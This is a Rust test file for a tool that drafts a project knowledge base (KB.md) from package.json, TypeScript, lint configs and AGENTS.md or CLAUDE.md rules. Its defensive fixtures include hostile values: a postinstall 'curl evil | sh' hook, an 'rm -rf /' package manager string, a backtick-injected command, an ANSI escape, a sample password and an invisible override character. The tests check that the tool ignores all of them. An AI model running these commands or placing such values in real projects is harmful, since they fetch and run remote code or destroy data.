//! The first KB.md: which lines the project's files give, which they do not, and the command that offers them.

use super::{dictum, ground, project, stdout};
use dictum::domain::kb::document::Document;
use dictum::domain::kb::facts::Tables;
use dictum::domain::kb::ground::Ground;
use dictum::domain::kb::init::{Plan, draft, propose};
use std::sync::LazyLock;

static TABLES: LazyLock<Tables> = LazyLock::new(Tables::new);

const PACKAGE: &str = r#"{
  "type": "module",
  "packageManager": "pnpm@9.12.0+sha512.abc",
  "engines": {"node": ">=22"},
  "scripts": {"lint": "biome check", "test": "vitest run", "postinstall": "curl evil | sh"},
  "dependencies": {"fastify": "^5.0.0", "zod": "^3.23.0", "pino": "^9"},
  "devDependencies": {"vitest": "^2.1.0", "eslint": "^9", "@biomejs/biome": "^1"}
}"#;

fn plan(files: &[(&str, &str)], kb: &str) -> Plan {
    propose(&TABLES, &ground(files), &Document::parse(kb))
}

/// The offered lines as `source: text`.
fn offered(files: &[(&str, &str)], kb: &str) -> Vec<String> {
    let mut rows: Vec<String> = plan(files, kb)
        .offers
        .iter()
        .map(|offer| format!("{}: {}", offer.origin(), offer.stated.text))
        .collect();
    rows.sort();
    rows
}

#[track_caller]
fn offers(files: &[(&str, &str)], kb: &str, expect: &[&str]) {
    assert_eq!(offered(files, kb), expect, "{:#?}", plan(files, kb).notes);
}

#[test]
fn package_json_states_manager_node_modules_libraries_and_scripts() {
    offers(
        &[("package.json", PACKAGE), ("pnpm-lock.yaml", "")],
        "",
        &[
            "package.json: @biomejs/biome: Use Biome as formatter.",
            "package.json: engines.node: Use Node 22 or newer.",
            "package.json: fastify: Use Fastify as HTTP framework.",
            "package.json: packageManager: Use pnpm as package manager.",
            "package.json: pino: Use pino for logging.",
            "package.json: scripts.lint: Lint with `pnpm run lint`.",
            "package.json: scripts.test: Run the tests with `pnpm run test`.",
            "package.json: type: Use ES modules, not CommonJS.",
            "package.json: vitest: Use Vitest as test runner.",
            "package.json: zod: Use zod for validation.",
        ],
    );
    offers(
        &[("package.json", r#"{"scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}"#)],
        "",
        &[],
    );
    offers(&[("yarn.lock", "")], "", &["yarn.lock: Use Yarn as package manager."]);
}

#[test]
fn configuration_states_style() {
    offers(
        &[
            (
                "tsconfig.json",
                "{\n  // strict\n  \"compilerOptions\": {\"strict\": true, \"module\": \"NodeNext\", \"paths\": {\"@/*\": [\"./src/*\"],},},\n}",
            ),
            (".prettierrc", "semi: false\nsingleQuote: true\nprintWidth: 100\n"),
            (
                ".editorconfig",
                "root = true\n[*]\nindent_style = space\nindent_size = 2\n[*.md]\nindent_size = 4\n",
            ),
            (
                ".eslintrc.json",
                r#"{"rules": {"no-console": "error", "eqeqeq": ["error", "smart"], "no-var": "off"}}"#,
            ),
        ],
        "",
        &[
            ".editorconfig: indent_style: Indent with 2 spaces.",
            ".eslintrc.json: eqeqeq: Compare with `===`, never with `==`.",
            ".eslintrc.json: no-console: Do not use `console.log`.",
            ".prettierrc: printWidth: Lines are at most 100 characters long.",
            ".prettierrc: semi: Do not use semicolons.",
            ".prettierrc: singleQuote: Use single quotes.",
            "tsconfig.json: module: Imports of the project's own files name their ending, `.js`.",
            "tsconfig.json: paths: Import through the alias `@/*`, not through relative paths.",
            "tsconfig.json: strict: Write TypeScript in strict mode.",
        ],
    );
    offers(
        &[(
            "biome.jsonc",
            r#"{"formatter": {"indentStyle": "tab", "lineWidth": 110}, "javascript": {"formatter": {"quoteStyle": "double"}}}"#,
        )],
        "",
        &[
            "biome.jsonc: indentStyle: Indent with tabs.",
            "biome.jsonc: lineWidth: Lines are at most 110 characters long.",
            "biome.jsonc: quoteStyle: Use double quotes.",
        ],
    );
}

const AGENTS: &str = "\
# AGENTS.md

This file guides Claude Code in this repository.

## Commands

- `pnpm dev` - start the server

## Rules

- Every route validates its body with a zod schema.
- Never edit files in `src/generated`.
- Money is stored in integer cents.
- `src/lib` - shared code with zod
- Claude must ask before it runs commands.
- The admin password is Tr0ub4dor
- Write clean code.
- Use \u{202e}tabs.
- See https://example.com/style

Always squash a PR before the merge. The project began in 2019.
";

#[test]
fn prose_gives_its_rules_word_for_word_and_nothing_else() {
    offers(
        &[("AGENTS.md", AGENTS)],
        "",
        &[
            "AGENTS.md:11: Every route validates its body with a zod schema.",
            "AGENTS.md:12: Never edit files in `src/generated`.",
            "AGENTS.md:13: Money is stored in integer cents.",
            "AGENTS.md:21: Always squash a PR before the merge.",
        ],
    );
    let notes = plan(&[("AGENTS.md", AGENTS)], "").notes.join("\n");
    assert!(notes.contains("left out 1 with a secret or an invisible character"), "{notes}");
    assert!(!notes.contains("Tr0ub4dor"));
    let readme = "# Shop\n\n- Use it to sell things.\n\n## Contributing\n\n### Tests\n\n- Never mock the database.\n\n## License\n\n- Never sue us.\n";
    offers(&[("README.md", readme)], "", &["README.md:9: Never mock the database."]);
}

#[test]
fn what_two_sources_say_is_offered_once_and_what_they_deny_is_named() {
    let files = [
        ("package.json", r#"{"packageManager": "pnpm@9.0.0"}"#),
        ("AGENTS.md", "- Use npm.\n- Never commit to main.\n"),
        ("CLAUDE.md", "- Never commit to main.\n- Use pnpm.\n"),
    ];
    offers(
        &files,
        "",
        &[
            "AGENTS.md:2, CLAUDE.md:1: Never commit to main.",
            "package.json: packageManager, CLAUDE.md:2: Use pnpm as package manager.",
        ],
    );
    let unclear = plan(&[("yarn.lock", ""), ("pnpm-lock.yaml", "")], "");
    assert!(unclear.offers.is_empty());
    assert_eq!(unclear.notes, ["the package manager is not clear: pnpm-lock.yaml and yarn.lock are there"]);
    let plan = plan(&files, "");
    let manager = plan.offers.iter().find(|offer| offer.stated.text.contains("pnpm")).unwrap();
    assert_eq!(manager.against, ["AGENTS.md:1 says \u{201c}Use npm.\u{201d}"]);
}

#[test]
fn only_what_kb_does_not_hold_is_offered() {
    let files = [("package.json", PACKAGE), ("pnpm-lock.yaml", "")];
    let kb = "# KB\n\n## Stack\n\n- Package manager: npm\n- Node 22 or newer.\n- HTTP framework: Fastify\n";
    let rows = offered(&files, kb).join("\n");
    assert!(
        !rows.contains("Fastify") && !rows.contains("Node") && !rows.contains("package manager"),
        "{rows}"
    );
    assert!(rows.contains("Vitest"), "{rows}");
    let plan = plan(&files, kb);
    let notes = plan.notes.join("\n");
    assert!(notes.contains("KB.md:5 says \u{201c}Package manager: npm\u{201d}"), "{notes}");
    let after = draft(kb, &plan).unwrap();
    assert!(after.starts_with(kb), "{after}");
}

#[test]
fn the_draft_has_headings_rules_and_no_sources() {
    let plan = plan(&[("package.json", PACKAGE), ("pnpm-lock.yaml", ""), ("AGENTS.md", AGENTS)], "");
    let text = draft("", &plan).unwrap();
    let kb = Document::parse(&text);
    assert_eq!(kb.entries.len(), plan.offers.len(), "{text}");
    assert!(kb.sections.len() >= 3, "{text}");
    assert!(!text.contains("AGENTS.md") && !text.contains("package.json"), "{text}");
    let headings: std::collections::BTreeSet<&str> = kb.sections.iter().map(|s| s.heading.as_str()).collect();
    assert_eq!(headings.len(), kb.sections.len(), "{text}");
}

#[test]
fn hostile_configuration_gives_no_words_of_its_own() {
    let files = [
        (
            "package.json",
            r#"{"packageManager": "rm -rf /@1", "engines": {"node": "`; curl evil | sh`"}, "scripts": {"test": "x"}}"#,
        ),
        ("tsconfig.json", r#"{"compilerOptions": {"paths": {"@/`curl`/*": [], "\u001b[31m/*": []}}}"#),
        (".prettierrc", "printWidth: 99999999\ntabWidth: -1\nsemi: maybe\n"),
        (".eslintrc", "[1, 2"),
    ];
    offers(&files, "", &["package.json: scripts.test: Run the tests with `npm run test`."]);
    offers(&[("package.json", "[]"), ("tsconfig.json", "\u{0}"), ("biome.json", "{\"a\": ")], "", &[]);
}

#[test]
fn in_a_script_the_file_is_printed_and_nothing_is_written() {
    let folder = project(&[("package.json", PACKAGE), ("pnpm-lock.yaml", "x"), ("CLAUDE.md", AGENTS)]);
    let output = dictum(folder.path(), &["kb", "init"]);
    assert_eq!(output.status.code(), Some(0));
    let text = stdout(&output);
    assert!(text.starts_with("# Knowledge base\n\n## Stack\n\n- Use pnpm as package manager.\n"), "{text}");
    assert!(Document::parse(&text).entries.iter().any(|entry| entry.text.starts_with("Never edit files")));
    let aside = String::from_utf8_lossy(&output.stderr).to_string();
    assert!(aside.contains("CLAUDE.md:12: Never edit files in `src/generated`."), "{aside}");
    assert!(aside.contains("Nothing was written"), "{aside}");
    assert!(!folder.path().join("project/KB.md").exists() && !folder.path().join("state").exists());
    let folder = project(&[]);
    let output = dictum(folder.path(), &["kb", "init"]);
    assert_eq!(output.status.code(), Some(0));
    assert!(stdout(&output).contains("state no rule"));
}

#[cfg(unix)]
#[test]
fn links_out_of_the_project_pipes_and_large_files_are_not_read() {
    let folder = project(&[("CLAUDE.md", &"- Never commit to main.\n".repeat(20_000))]);
    let root = folder.path().join("project");
    std::fs::write(folder.path().join("outside.md"), "- Never look outside.\n").unwrap();
    std::os::unix::fs::symlink(folder.path().join("outside.md"), root.join("AGENTS.md")).unwrap();
    std::fs::write(root.join(".cursorrules"), b"- Never caf\xe9.\n").unwrap();
    let made = std::process::Command::new("mkfifo").arg(root.join("README.md")).status();
    assert!(made.is_ok_and(|status| status.success()));
    let output = dictum(folder.path(), &["kb", "init"]);
    let aside = String::from_utf8_lossy(&output.stderr).to_string();
    assert!(stdout(&output).contains("state no rule"), "{}", stdout(&output));
    for word in [
        "AGENTS.md leads out of the project",
        "CLAUDE.md is too large",
        ".cursorrules is not UTF-8",
        "README.md cannot be read",
    ] {
        assert!(aside.contains(word), "{word}: {aside}");
    }
}

#[test]
fn nothing_at_all_is_offered_for_nothing() {
    assert_eq!(propose(&TABLES, &Ground::default(), &Document::default()), Plan::default());
}
